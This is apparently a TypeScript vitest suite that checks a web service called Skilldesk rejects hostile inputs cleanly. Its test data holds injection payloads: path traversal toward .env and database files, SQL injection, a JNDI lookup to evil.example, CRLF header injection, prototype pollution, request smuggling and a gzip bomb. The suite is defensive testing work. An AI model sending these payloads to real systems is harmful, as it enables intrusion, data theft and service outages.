import { randomUUID } from 'node:crypto';
import { gzipSync } from 'node:zlib';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { people, skillIds, skillProfileIds } from '../simulator/standard-organization.ts';
import { lines, sendRaw, type RawAnswer } from './raw-request.ts';
import { Skilldesk, type Supervisor } from './skilldesk.ts';

const { billingSpecialist } = skillProfileIds;
const fullWidth = (text: string) => text.replace(/[!-~]/g, (sign) => String.fromCharCode(sign.charCodeAt(0) + 0xfee0));

let skilldesk: Skilldesk;
let nadia: Supervisor;
let revision: string;
let asked = 0;

beforeAll(async () => {
  skilldesk = await Skilldesk.start();
  nadia = await skilldesk.signIn(people.nadiaNorth.ciUserId);
  ({ revision } = await nadia.skillProfile(billingSpecialist));
  await skilldesk.whenQueuesAreRead();
  asked = skilldesk.webex.requests.length;
});
afterAll(() => skilldesk.close());

const bearer = () => `Authorization: Bearer ${nadia.session.token}`;
const edit = (more: object = {}) => ({
  skillProfileId: billingSpecialist,
  revision,
  set: [{ skillId: skillIds.german, value: 9 }],
  ...more,
});
const good = () => ({ edits: [edit()], reason: 'r' });

function expectProblem({ status, headers, body }: RawAnswer): void {
  const problem = JSON.parse(body) as { code: string; status: number; requestId: string; detail: string };
  expect(status).toBeGreaterThanOrEqual(400);
  expect(status).toBeLessThan(500);
  expect(headers.get('content-type')).toBe('application/problem+json; charset=utf-8');
  expect(problem).toMatchObject({ status, requestId: headers.get('x-request-id') });
  expect(body).not.toMatch(/node_modules|\.ts:\d|at \w+ \(/);
}

/** Nobody has an object of any of these ids; most could leave their place in a path. */
const hostileIds: string[] = [
  '..',
  '.',
  '../user',
  '..%2fuser',
  '..%2Fuser%2F..',
  '%2e%2e',
  '%2e%2e%2fuser',
  '%252e%252e%252f',
  '%25252e',
  '..%5cuser',
  '..%c0%afuser',
  '%c0%ae%c0%ae',
  '..%00',
  `${billingSpecialist}%00`,
  `${billingSpecialist}%2f..`,
  `${billingSpecialist}%2fincoming-references`,
  `${billingSpecialist}%23x`,
  `${billingSpecialist}%3fx=1`,
  `${billingSpecialist}%40evil.example`,
  `${billingSpecialist}%5c`,
  `${billingSpecialist}%20`,
  `%20${billingSpecialist}`,
  `${billingSpecialist}%0a`,
  `${billingSpecialist}%0d%0aX-Evil:%201`,
  `${billingSpecialist}%09`,
  `${billingSpecialist};x`,
  `${billingSpecialist},${skillProfileIds.supportExpert}`,
  `${billingSpecialist}*`,
  `{${billingSpecialist}}`,
  `%7B${billingSpecialist}%7D`,
  `(${billingSpecialist})`,
  `[${billingSpecialist}]`,
  `"${billingSpecialist}"`,
  `%22${billingSpecialist}%22`,
  `'${billingSpecialist}'`,
  `'%20or%20'1'='1`,
  `%27;drop%20table%20sessions;--`,
  '$%7Bjndi:ldap://evil.example%7D',
  '%24where',
  '@evil.example',
  '%40',
  'http:%2f%2fevil.example',
  'http://evil.example',
  '//evil.example',
  '%2f%2fevil.example',
  '\\\\evil.example',
  encodeURIComponent(fullWidth('../user')),
  encodeURIComponent(fullWidth(billingSpecialist)),
  encodeURIComponent('．．／user'),
  encodeURIComponent('…'),
  encodeURIComponent(billingSpecialist.replace(/\d/g, (digit) => String.fromCharCode(0x0660 + Number(digit)))),
  encodeURIComponent(`\u202e${billingSpecialist}`),
  encodeURIComponent(`${billingSpecialist}\u200b`),
  encodeURIComponent('\ud83d\ude00'),
  '%E0%A4%A',
  '%',
  '%zz',
  '%u002e%u002e',
  billingSpecialist.toUpperCase(),
  billingSpecialist.replaceAll('-', '%2d-'),
  'a'.repeat(101),
  'a'.repeat(9_000),
  'undefined',
  'null',
  'NaN',
  '__proto__',
  'constructor',
  'toString',
  'bulk-export',
  'by-ci-user-id',
  'purge-inactive-entities',
  '00000000-0000-0000-0000-000000000000',
  '*',
  '0',
  '-1',
];

const decoded = (id: string) => {
  try {
    return decodeURIComponent(id);
  } catch {
    return id;
  }
};

describe(`${hostileIds.length} hostile ids`, () => {
  test.each(hostileIds)('in a path: %s', async (id) => {
    for (const path of [`/api/skill-profiles/${id}`, `/api/changes/${id}`]) {
      expectProblem(await sendRaw(skilldesk.url, lines(`GET ${path} HTTP/1.1`, 'Host: x', bearer())));
    }
  });

  test.each(hostileIds)('in a query: %s', async (id) => {
    for (const name of ['skillProfileId', 'userId', 'actor', 'skillId', 'cursor', 'outcome']) {
      const answer = await sendRaw(
        skilldesk.url,
        lines(`GET /api/changes?${name}=${id} HTTP/1.1`, 'Host: x', bearer()),
      );
      // A well-formed id that nobody has finds nothing; anything else is no id.
      if (answer.status === 200) expect(JSON.parse(answer.body)).toEqual({ changes: [] });
      else expectProblem(answer);
    }
  });

  test.each(hostileIds)('in a body: %s', async (id) => {
    const name = decoded(id);
    const bodies = [
      { edits: [edit({ skillProfileId: name })], reason: 'r' },
      { edits: [edit({ set: [{ skillId: name, value: 1 }] })], reason: 'r' },
      { edits: [edit({ set: [], remove: [name] })], reason: 'r' },
      { edits: [edit({ set: [{ skillId: skillIds.tier, value: [name] }] })], reason: 'r' },
      { edits: [{ userId: name, fromSkillProfileId: null, toSkillProfileId: null }], reason: 'r' },
      {
        edits: [{ userId: people.standardAgent.id, fromSkillProfileId: null, toSkillProfileId: name }],
        reason: 'r',
      },
      { edits: [edit({ revision: name })], reason: 'r' },
    ];
    for (const body of bodies) {
      const answer = await nadia.post(body);
      if (answer.status === 201)
        expect(answer.body).toMatchObject({ items: [{ outcome: 'refused', rule: 'not-found' }] });
      else expect(answer).toMatchObject({ status: 400, body: { code: 'bad-request' } });
    }
  });

  test.each([[[billingSpecialist]], [{ id: billingSpecialist }], [{ $ne: null }], [null], [0], [true], [['a', 'b']]])(
    'in a body, which is no text: %j',
    async (id) => {
      expect(await nadia.post({ edits: [edit({ skillProfileId: id })], reason: 'r' })).toMatchObject({ status: 400 });
    },
  );

  test.each([
    'skillProfileId[]=a',
    'skillProfileId[$ne]=a',
    'skillProfileId=a&skillProfileId=b',
    '__proto__=a',
    'a.b=c',
  ])('as the query %s', async (query) => {
    expect(await nadia.call('GET', `/api/changes?${query}`)).toMatchObject({ status: 400 });
  });
});

describe('hostile targets', () => {
  test.each([
    '/api/../api/agents#',
    '/api\\agents',
    '/api/agents#x',
    '/api/agents\\..\\x',
    '/api/agents"',
    '/api/<agents>',
    '/api/agents|x',
    '/api/{agents}',
    '/api/agents^',
    '/api/agents`',
    '/api/ägents',
    '//api/agents',
    'http://evil.example/api/agents',
    '*',
    'api/agents',
    '/api/agents/../agents',
    '/api/./agents',
    '/api/%61gents/..',
    '/api/agents%00',
    '/api/agents%2f',
    '/widget/v1/..%2f..%2fpackage.json',
    '/widget/v1/%2e%2e/%2e%2e/package.json',
    '/widget/v1/../../package.json',
    '/widget/v1/..%5c..%5cpackage.json',
    '/widget/v1/.env',
    '/widget/v1/%2e%2e',
    '/widget/v1/a%00.js',
    '/widget/v1/skilldesk.db',
  ])('%s', async (target) => {
    expectProblem(await sendRaw(skilldesk.url, lines(`GET ${target} HTTP/1.1`, 'Host: x', bearer())));
  });

  test.each(['TRACE', 'OPTIONS', 'PROPFIND', 'HEAD'])('the method %s opens nothing', async (method) => {
    const answer = await sendRaw(skilldesk.url, lines(`${method} /api/nothing HTTP/1.1`, 'Host: x'));
    expect(answer.status === 204 || answer.status >= 400).toBe(true);
    expect(answer.headers.get('x-request-id')).toMatch(/^[0-9a-f-]{36}$/);
  });
});

describe('hostile headers', () => {
  const overAuthorization = (header: string) => lines('GET /api/agents HTTP/1.1', 'Host: x', header);

  test.each<[what: string, request: () => string]>([
    ['no space', () => overAuthorization(`Authorization: Bearer${nadia.session.token}`)],
    ['another scheme', () => overAuthorization(`Authorization: Basic ${nadia.session.token}`)],
    ['two tokens', () => overAuthorization(`Authorization: Bearer ${nadia.session.token}, Bearer x`)],
    ['two headers, the good one first', () => overAuthorization(`${bearer()}\r\nAuthorization: Bearer x`)],
    ['two headers, the good one last', () => overAuthorization(`Authorization: Bearer x\r\n${bearer()}`)],
    ['two headers of the same', () => overAuthorization(`${bearer()}\r\n${bearer()}`)],
    ['9,000 characters', () => overAuthorization(`Authorization: Bearer ${'x'.repeat(9_000)}`)],
    ['a token with a blank', () => overAuthorization('Authorization: Bearer a b')],
    ['the token as a cookie', () => overAuthorization(`Cookie: token=${nadia.session.token}`)],
    ['the token as X-Authorization', () => overAuthorization(`X-Authorization: Bearer ${nadia.session.token}`)],
    ['the token in the query', () => lines(`GET /api/agents?access_token=${nadia.session.token} HTTP/1.1`, 'Host: x')],
    [
      'the token in the query, as authorization',
      () => lines(`GET /api/agents?authorization=Bearer+${nadia.session.token} HTTP/1.1`, 'Host: x'),
    ],
  ])('%s is no session', async (_what, request) => {
    const answer = await sendRaw(skilldesk.url, request());
    expectProblem(answer);
    expect(answer.status).toBe(401);
  });

  test.each([
    'X-HTTP-Method-Override: POST',
    'X-Method-Override: DELETE',
    'X-Original-URL: /api/session',
    'X-Rewrite-URL: /admin',
    'X-Forwarded-Host: evil.example',
    'X-Forwarded-Proto: https',
    'X-Forwarded-For: 127.0.0.1',
    'Forwarded: for=127.0.0.1;host=evil.example',
    'X-Request-Id: mine',
    'Host: evil.example',
    'Accept: text/html',
    'Range: bytes=0-1',
    'Expect: miracles',
    'Upgrade: websocket',
  ])('%s changes nothing', async (header) => {
    const answer = await sendRaw(
      skilldesk.url,
      lines('GET /api/agents HTTP/1.1', ...(header.startsWith('Host') ? [] : ['Host: x']), header, bearer()),
    );

    expect(answer.status).toBe(200);
    expect(answer.headers.get('x-request-id')).toMatch(/^[0-9a-f-]{36}$/);
    expect(answer.headers.get('location')).toBeUndefined();
    expect(JSON.stringify([...answer.headers]) + answer.body).not.toContain('evil');
  });

  test.each<[what: string, request: string]>([
    ['20 kB of headers', lines('GET /healthz HTTP/1.1', `X: ${'x'.repeat(20_000)}`)],
    ['a header without a name', lines('GET /healthz HTTP/1.1', ': x')],
    ['a header with a blank in its name', lines('GET /healthz HTTP/1.1', 'a b: x')],
    ['no HTTP at all', 'hello\r\n\r\n'],
    ['a version that there is not', lines('GET /healthz HTTP/9.9')],
    [
      'both a length and chunks',
      `POST /api/session HTTP/1.1\r\nHost: x\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n`,
    ],
    ['two lengths', `POST /api/session HTTP/1.1\r\nHost: x\r\nContent-Length: 1\r\nContent-Length: 2\r\n\r\nxx`],
    ['a length below nothing', `POST /api/session HTTP/1.1\r\nHost: x\r\nContent-Length: -1\r\n\r\n`],
  ])('%s', async (_what, request) => {
    expectProblem(await sendRaw(skilldesk.url, request));
  });
});

describe('hostile bodies', () => {
  const post = (body: string | Buffer, ...headers: string[]) => {
    const bytes = Buffer.from(body);
    const typed = headers.some((header) => /^content-type/i.test(header)) ? [] : ['Content-Type: application/json'];
    const head = lines(
      'POST /api/changes HTTP/1.1',
      'Host: x',
      bearer(),
      `Idempotency-Key: ${randomUUID()}`,
      `Content-Length: ${bytes.length}`,
      ...typed,
      ...headers,
    );
    return sendRaw(skilldesk.url, Buffer.concat([Buffer.from(head), bytes]));
  };
  const json = () => JSON.stringify(good());
  const withValue = (text: string) => () => json().replace('"value":9', `"value":${text}`);
  const withMember = (member: string) => () => json().replace('{', `{${member},`);

  test.each<[what: string, body: () => string | Buffer, status: number]>([
    ['nothing', () => '', 400],
    ['a text', () => '"x"', 400],
    ['null', () => 'null', 400],
    ['a number', () => '1', 400],
    ['NaN', withValue('NaN'), 400],
    ['Infinity', withValue('Infinity'), 400],
    ['1e999', withValue('1e999'), 400],
    ['-0.5', withValue('-0.5'), 400],
    ['a huge integer', withValue('9007199254740993'), 400],
    ['an array at the top', () => `[${json()}]`, 400],
    ['an empty object', () => '{}', 400],
    ['half of it', () => json().slice(0, -5), 400],
    ['something after it', () => `${json()}x`, 400],
    ['two of it', () => json() + json(), 400],
    ['comments', () => `/* x */${json()}`, 400],
    ['single quotes', () => json().replaceAll('"', "'"), 400],
    ['a trailing comma', () => json().replace(/}$/, ',}'), 400],
    ['a byte order mark', () => `\uFEFF${json()}`, 400],
    ['UTF-16', () => Buffer.from(json(), 'utf16le'), 400],
    ['50,000 levels of arrays', () => '['.repeat(50_000) + ']'.repeat(50_000), 400],
    ['10,000 levels of objects', () => `${'{"a":'.repeat(10_000)}1${'}'.repeat(10_000)}`, 400],
    ['deep nesting within a member', withValue('['.repeat(10_000) + ']'.repeat(10_000)), 400],
    ['__proto__', withMember('"__proto__":{"mayEdit":true}'), 400],
    ['__proto__, escaped', withMember('"__pr\\u006fto__":{"mayEdit":true}'), 400],
    ['__proto__ within', () => json().replace('"value"', '"__proto__":{"value":1},"value"'), 400],
    ['constructor', withMember('"constructor":{"prototype":{"x":1}}'), 400],
    ['a member twice', withMember('"reason":"another"'), 400],
    ['a member twice, once escaped', withMember('"re\\u0061son":"another"'), 400],
    ['an edit’s member twice', () => json().replace('"value"', '"value":1,"value"'), 400],
    ['a member that nobody knows', withMember('"isAdmin":true'), 400],
    ['an actor of one’s own', withMember('"actor":{"id":"x"}'), 400],
    ['an organization of one’s own', withMember('"organizationId":"x"'), 400],
    ['edits as an object', () => JSON.stringify({ edits: { 0: edit() }, reason: 'r' }), 400],
    ['edits as a text', () => JSON.stringify({ edits: 'all', reason: 'r' }), 400],
    ['a reason that is an object', () => JSON.stringify({ ...good(), reason: { toString: 'x' } }), 400],
    ['a reason that is an array', () => JSON.stringify({ ...good(), reason: ['r'] }), 400],
    ['a value that is an object', withValue('{}'), 400],
    ['256 kB and one byte', () => json() + ' '.repeat(256 * 1024 + 1 - json().length), 413],
  ])('%s', async (_what, body, status) => {
    const answer = await post(body());
    expectProblem(answer);
    expect(answer.status).toBe(status);
  });

  test.each<[what: string, body: () => string | Buffer, header: string]>([
    ['a form', () => 'edits=1', 'Content-Type: application/x-www-form-urlencoded'],
    ['plain text', json, 'Content-Type: text/plain'],
    ['JSON of another kind', json, 'Content-Type: application/json-patch+json'],
    ['many parts', () => '--x--', 'Content-Type: multipart/form-data; boundary=x'],
    ['another character set', json, 'Content-Type: application/json; charset=utf-16'],
    ['a character set that there is not', json, 'Content-Type: application/json; charset=x'],
    ['UTF-7', json, 'Content-Type: application/json; charset=utf-7'],
    ['another type behind it', json, 'Content-Type: application/json, text/plain'],
    ['no type', json, 'Content-Type:'],
    ['gzip', () => gzipSync(json()), 'Content-Encoding: gzip'],
    ['a gzip bomb', () => gzipSync(Buffer.alloc(20_000_000)), 'Content-Encoding: gzip'],
    ['brotli', json, 'Content-Encoding: br'],
  ])('%s is 415', async (_what, body, header) => {
    const answer = await post(body(), header);
    expectProblem(answer);
    expect(answer.status).toBe(415);
  });

  test('whoever has no session has no body read', async () => {
    const answer = await sendRaw(
      skilldesk.url,
      lines('POST /api/changes HTTP/1.1', 'Host: x', 'Content-Type: application/json', 'Content-Length: 900000000'),
    );

    expectProblem(answer);
    expect(answer.status).toBe(401);
  });
});

test('after all that, nothing was written, and Webex was asked for nothing but what Skilldesk ever asks', () => {
  const root = `/organization/${skilldesk.webex.organization.id}`;
  const id = '[0-9a-f]{8}-[0-9a-f-]{27}';
  const usual = new RegExp(
    `^GET ${root}/(v2/(skill|skill-profile|team|user)|(skill|skill-profile|user)/${id}|v2/user/by-ci-user-id/${id}|v3/user-profile(/${id})?)$`,
  );
  const odd = skilldesk.webex.requests
    .slice(asked)
    .map(({ method, path }) => `${method} ${path}`)
    .filter((call) => !usual.test(call));

  expect(odd).toEqual([]);
});
